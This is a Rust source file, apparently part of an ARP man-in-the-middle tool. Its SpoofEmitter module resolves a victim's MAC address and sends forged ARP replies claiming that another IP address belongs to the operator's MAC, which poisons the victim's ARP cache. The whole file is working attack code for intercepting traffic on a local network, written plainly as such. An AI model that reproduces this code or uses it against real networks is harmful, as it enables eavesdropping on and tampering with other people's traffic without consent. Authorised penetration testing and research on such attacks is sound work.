//! Spoof Emitter: forged ARP replies

use crate::link::Link;
use crate::resolver::Resolver;
use arpmitm_core::Session;
use arpmitm_packet::ArpPacket;
use std::net::Ipv4Addr;
use std::sync::Arc;
use tracing::{debug, warn};

/// What happened to one spoof attempt
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpoofOutcome {
    /// The forged reply went out
    Sent,
    /// The victim did not answer, nothing was sent
    Unresolved,
    /// The link refused the frame
    SendFailed,
}

/// Tells a victim that some other IP lives at the operator's MAC
pub struct SpoofEmitter {
    link: Arc<dyn Link>,
    resolver: Resolver,
    session: Arc<Session>,
}

impl SpoofEmitter {
    pub fn new(link: Arc<dyn Link>, resolver: Resolver, session: Arc<Session>) -> Self {
        Self {
            link,
            resolver,
            session,
        }
    }

    /// Send one reply claiming `spoof_as_ip` is at our MAC, unicast to `victim_ip`.
    ///
    /// The victim is resolved afresh on every call. Failures are logged here
    /// and reported through the outcome; the caller keeps going either way.
    pub async fn spoof(&self, victim_ip: Ipv4Addr, spoof_as_ip: Ipv4Addr) -> SpoofOutcome {
        let Some(victim_mac) = self.resolver.resolve(victim_ip).await else {
            warn!(victim = %victim_ip, spoof_as = %spoof_as_ip, "Victim unresolved, skipping spoof");
            return SpoofOutcome::Unresolved;
        };

        let our_mac = self.link.mac();
        let reply = ArpPacket::new_reply(our_mac, spoof_as_ip, victim_mac, victim_ip);
        let frame = match reply.to_frame(our_mac, victim_mac) {
            Ok(frame) => frame,
            Err(e) => {
                warn!(victim = %victim_ip, error = %e, "Failed to build spoofed reply");
                self.session.counters().increment_send_errors();
                return SpoofOutcome::SendFailed;
            }
        };

        match self.link.send(&frame).await {
            Ok(()) => {
                self.session.counters().record_transmit(frame.len());
                debug!(
                    victim = %victim_ip,
                    victim_mac = %victim_mac,
                    spoof_as = %spoof_as_ip,
                    "Spoofed reply sent"
                );
                SpoofOutcome::Sent
            }
            Err(e) => {
                warn!(victim = %victim_ip, error = %e, "Failed to send spoofed reply");
                self.session.counters().increment_send_errors();
                SpoofOutcome::SendFailed
            }
        }
    }
}
